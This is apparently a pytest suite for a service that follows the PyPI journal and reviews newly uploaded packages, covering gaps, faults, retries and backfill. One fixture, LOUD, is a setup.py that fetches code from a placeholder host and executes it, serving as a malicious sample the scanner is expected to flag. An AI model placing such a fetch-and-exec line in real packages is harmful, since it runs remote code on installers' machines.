"""From the journal to verdicts: everything once, whatever the registry does meanwhile."""

from __future__ import annotations

import msgspec
import pytest
from sqlalchemy import func, select, update

from pratique.errors import RegistryError, TargetNotFound
from pratique.service.follower import Follower
from pratique.store import feed, queue, verdicts
from pratique.store.tables import artifacts, cursors, events, jobs, releases, reviews
from standin.registry import sdist, wheel

QUIET = {"acme/__init__.py": b"VALUE = 1\n"}
LOUD = {"setup.py": b"import urllib.request\nexec(urllib.request.urlopen('https://a.invalid/x').read())\n"}


def levels(world):
    with world.store.read() as connection:
        rows = connection.execute(select(reviews.c.filename, reviews.c.level).order_by(reviews.c.filename))
        return dict(map(tuple, rows))


def count(world, table):
    with world.store.read() as connection:
        return connection.execute(select(func.count()).select_from(table)).scalar_one()


def due(world):
    """Let everything that waits be due."""
    with world.store.write() as connection:
        connection.execute(update(jobs).where(jobs.c.state == "pending").values(due_at=0))


def test_an_upload_becomes_a_verdict(registry, world, follower, work):
    """Wheel and sdist of a release, each reviewed once, with its bytes kept and its latency known."""
    registry.upload(*wheel("acme", "1.0", QUIET))
    registry.upload(*sdist("acme", "1.0", LOUD))

    assert follower.poll().jobs == 2
    assert [one.state for one in work()] == ["done", "done"]
    assert follower.poll().jobs == 0
    found = levels(world)
    assert found["acme-1.0-py3-none-any.whl"] == "clear"
    assert found["acme-1.0.tar.gz"] in {"look", "block"}
    with world.store.read() as connection:
        (summary,) = [one for one in verdicts.page(connection) if one.level == "clear"]
        assert summary.purl == "pkg:pypi/acme@1.0"
        assert 0 <= summary.latency_s < 60
        assert set(world.store.vault.addresses()) == set(connection.execute(select(reviews.c.sha256)).scalars())
    assert registry.agents == {"pratique/0.1.0 (+ops@a.invalid)"}


def test_the_journal_may_repeat_and_disorder_itself(registry, world, follower, work):
    """Entries that commit late, below the cursor, are found again by the overlap."""
    registry.upload(*wheel("acme", "1.0", QUIET))
    registry.upload(*wheel("late", "1.0", QUIET))
    registry.hold_back(1)
    registry.upload(*wheel("next", "1.0", QUIET))
    follower.poll()
    registry.let_go()
    follower.poll()
    assert [one.reason for one in work()] == [""] * 3

    assert sorted(levels(world)) == [f"{name}-1.0-py3-none-any.whl" for name in ("acme", "late", "next")]
    assert count(world, reviews) == 3


def test_gaps_are_found_by_the_index_and_filled(registry, world, follower, work, monkeypatch):
    """An entry that the journal never shows is found by the project's serial, once."""
    import pratique.service.follower as module

    monkeypatch.setattr(module, "OVERLAP", 0)
    registry.upload(*wheel("acme", "1.0", QUIET))
    follower.poll()
    registry.upload(*wheel("acme", "2.0", QUIET))
    registry.journal = [row for row in registry.journal if row[1] != "2.0"]
    registry.upload(*wheel("other", "1.0", QUIET))
    follower.poll()

    assert follower.reconcile() == ["acme"]
    assert follower.reconcile() == []
    work()
    assert "acme-2.0-py3-none-any.whl" in levels(world)
    assert count(world, reviews) == 3


def test_a_follower_begins_at_the_newest_event(registry, world, index):
    """The first time there is no history to review, unless a serial is given; later it goes on where it was."""
    registry.upload(*wheel("old", "1.0", QUIET))
    follower = Follower(world.store, world.registry.feed())

    assert follower.poll().jobs == 0
    assert follower.reconcile() == []
    registry.upload(*wheel("new", "1.0", QUIET))
    assert Follower(world.store, world.registry.feed()).poll().jobs == 1
    with world.store.read() as connection:
        assert feed.cursor(connection, "pypi", "journal") == registry.serial


def test_journals_longer_than_one_answer(registry, world, follower):
    registry.page_size = 3
    for number in range(4):
        registry.upload(*wheel("acme", f"{number}.0", QUIET))
    taken = 0
    while found := follower.poll().jobs:
        taken += found
        registry.page_size += 3  # the overlap is asked for again each time

    assert taken == 4


@pytest.mark.parametrize(
    ("path", "fault", "state"),
    [
        ("/files/", {"flip": True}, "pending"),
        ("/files/", {"keep": 10}, "done"),
        ("/files/", {"reset": True}, "done"),
        ("/files/", {"status": 503}, "done"),
        ("/files/", {"status": 429, "retry_after": "0"}, "done"),
        ("/files/", {"status": 404}, "pending"),
        ("/simple/acme", {"status": 500}, "done"),
        ("/simple/acme", {"keep": 5}, "done"),
        ("/simple/acme", {"status": 404}, "pending"),
    ],
)
def test_one_fault_never_loses_an_upload(registry, world, follower, work, path, fault, state, monkeypatch):
    """What a second try cures is cured at once; wrong bytes and missing files are tried again later."""
    monkeypatch.setattr("time.sleep", lambda _: None)
    registry.upload(*wheel("acme", "1.0", QUIET))
    follower.poll()
    made = registry.fault(path, **fault)

    assert [one.state for one in work()] == [state]
    assert made in registry.faults.happened
    due(world)
    work()
    assert levels(world) == {"acme-1.0-py3-none-any.whl": "clear"}


def test_wrong_bytes_are_never_reviewed(registry, world, follower, work):
    """A file that is not what the index announced is parked after three attempts, and the others go on."""
    registry.upload(*wheel("acme", "1.0", QUIET))
    registry.upload(*wheel("fine", "1.0", QUIET))
    follower.poll()
    registry.fault("/files/.*acme", flip=True, times=3)
    for _ in range(3):
        outcomes = work()
        due(world)

    assert [(one.state, one.filename) for one in outcomes] == [("parked", "acme-1.0-py3-none-any.whl")]
    assert list(levels(world)) == ["fine-1.0-py3-none-any.whl"]
    with world.store.write() as connection:
        assert "sha256" in queue.parked(connection)[0][3]
        queue.requeue(connection)
    work()
    assert count(world, reviews) == 2


def test_a_page_that_lags_behind_the_journal_is_waited_for(registry, world, follower, work):
    registry.upload(*wheel("acme", "1.0", QUIET), hidden=2)
    follower.poll()
    states = []
    for _ in range(3):
        states += [one.state for one in work()]
        due(world)

    assert states == ["pending", "pending", "done"]


def test_a_file_that_vanishes_before_we_came_is_gone_not_lost(registry, world, follower, work):
    """Its announcement and its removal stay on record, with the reason."""
    name, data = wheel("acme", "1.0", QUIET)
    registry.upload(name, data)
    registry.remove_file("acme", name)
    follower.poll()
    for _ in range(len(queue.WAITS) + 1):
        outcomes = work()
        due(world)

    assert [one.state for one in outcomes] == ["gone"]
    with world.store.read() as connection:
        assert connection.execute(select(artifacts.c.state)).scalar_one() == "removed"
        kinds = list(connection.execute(select(events.c.kind).order_by(events.c.serial)).scalars())
    assert kinds == ["new-project", "new-release", "upload", "remove-file"]


def test_what_the_registry_does_later_is_evidence(registry, world, follower, work):
    for name in ("bad", "good"):
        registry.upload(*wheel(name, "1.0", QUIET))
    follower.poll()
    work()
    for name in ("bad", "good"):
        registry.quarantine(name)
    registry.clear("good")
    registry.remove_project("bad")
    registry.yank("good", "1.0")
    follower.poll()
    with world.store.read() as connection:
        rows = connection.execute(select(releases.c.name, artifacts.c.state).join(artifacts))
        assert dict(map(tuple, rows)) == {"bad": "removed", "good": "yanked"}


def test_limits_of_the_journal_are_respected(registry, world, follower):
    registry.fault("/pypi", xmlrpc="HTTPTooManyRequests: too many requests by the client")

    with pytest.raises(RegistryError, match="TooManyRequests"):
        follower.poll()
    registry.upload(*wheel("acme", "1.0", QUIET))
    assert follower.poll().jobs == 1


@pytest.mark.parametrize("body", [b"<html>", b"", b"<?xml version='1.0'?><methodResponse><params/></methodResponse>"])
def test_a_journal_that_talks_nonsense_is_an_error(loopback, reply, body):
    from pratique.ecosystems.pypi import journal
    from pratique.http import Client

    url = loopback.url + "/pypi"

    class Fixed(Client):
        def post(self, url, body_, **more):
            from pratique.http import Answer

            return Answer(url=url, content_type="text/xml", body=body)

    with pytest.raises(RegistryError):
        journal.call(Fixed(), url, "changelog_last_serial")


def test_the_journals_silence_is_noticed(registry, world, follower):
    """RSS shows releases that the journal does not; a quiet registry is no alarm."""
    registry.upload(*wheel("acme", "1.0", QUIET))
    follower.poll()
    assert follower.silent() == 0
    name, version, at, action, serial = registry.journal[1]
    registry.journal.append((name, version, at + 5000, action, serial))

    assert follower.silent() > 4000


def test_a_fault_in_the_middle_leaves_cursor_and_artifacts_together(registry, world, follower, monkeypatch):
    """Whatever is written before a failure is complete, and the rest comes with the next look."""
    import pratique.service.follower as module

    monkeypatch.setattr(module, "CHUNK", 3)
    for number in range(3):
        registry.upload(*wheel("acme", f"{number}.0", QUIET))
    taken, real = [], feed.take

    def take(connection, batch, **more):
        taken.append(len(batch))
        if len(taken) == 2:
            raise RegistryError("cut")
        return real(connection, batch, **more)

    monkeypatch.setattr(feed, "take", take)
    with pytest.raises(RegistryError):
        follower.poll()
    with world.store.read() as connection:
        cursor = feed.cursor(connection, "pypi", "journal")
        known = connection.execute(select(func.max(events.c.serial))).scalar_one()
    assert cursor == known < registry.serial
    follower.poll()
    assert count(world, jobs) == 3


def test_incomplete_reviews_are_read_again_with_more_patience(registry, world, follower, worker, work):
    """An artifact that a limit stopped gets a job in the lane of re-reads, once."""
    registry.upload(*wheel("acme", "1.0", QUIET))
    follower.poll()
    usual, calls = worker._reviewer, []

    class Hasty:
        def close(self):
            """Nothing to end."""

        def review(self, one):
            found = usual.review(one)
            verdict = msgspec.structs.replace(found.review.verdict, complete=False, level="look")
            calls.append(one.artifact.filename)
            return msgspec.structs.replace(found, review=msgspec.structs.replace(found.review, verdict=verdict))

    worker._patient, worker._reviewer = usual, Hasty()
    assert [one.state for one in work()] == ["done", "done"]
    assert len(calls) == 1
    with world.store.read() as connection:
        assert [one.complete for one in verdicts.page(connection)] == [True, False]


def test_only_one_request_for_the_wheels_of_a_release(registry, world, follower, work):
    for tag in ("cp311", "cp312", "cp313"):
        name, data = wheel("acme", "1.0", {"acme/__init__.py": tag.encode()})
        registry.upload(name.replace("py3", tag), data)
    follower.poll()
    registry.asked.clear()
    work()

    assert registry.asked.count("GET /simple/acme/") == 1
    assert count(world, reviews) == 3


def test_backfill_takes_what_is_listed_once_and_last(registry, world, follower, work):
    """Files from before the beginning wait in the last lane, and say nothing of how long uploads wait."""
    registry.upload(*wheel("acme", "1.0", {"acme.py": b"A = 1\n"})).uploaded -= 40 * 86_400
    registry.upload(*wheel("acme", "2.0", {"acme.py": b"A = 2\n"}))
    with world.store.write() as connection:
        connection.execute(cursors.update().values(serial=registry.serial))
    follower.poll()
    registry.upload(*wheel("acme", "3.0", {"acme.py": b"A = 3\n"}))

    assert [follower.backfill("acme") for _ in range(2)] == [3, 0]
    with world.store.read() as connection:
        assert {lane for lane, _ in queue.depth(connection)} == {queue.BACKFILL}
    follower.poll()
    assert sorted(one.state for one in work()) == ["done"] * 3
    with world.store.read() as connection:
        assert verdicts.latencies(connection) == []
    with pytest.raises(TargetNotFound):
        follower.backfill("no-such-project")


def test_backfill_on_the_command_line(registry, index, tmp_path, capsys):
    from pratique.cli import main

    registry.upload(*wheel("acme", "1.0", {"acme.py": b"A = 1\n"}))
    names = tmp_path / "names"
    names.write_text("Acme\n\nnobody\n")
    place = ["--index", f"{index}/simple", "--rate", "1000", "--database", str(tmp_path / "b.sqlite")]

    assert main(["backfill", "--file", str(names), *place]) == 1
    err = capsys.readouterr().err
    assert "nobody" in err
    assert "1 files of 1 projects are queued" in err
    assert main(["backfill", *place]) == 2
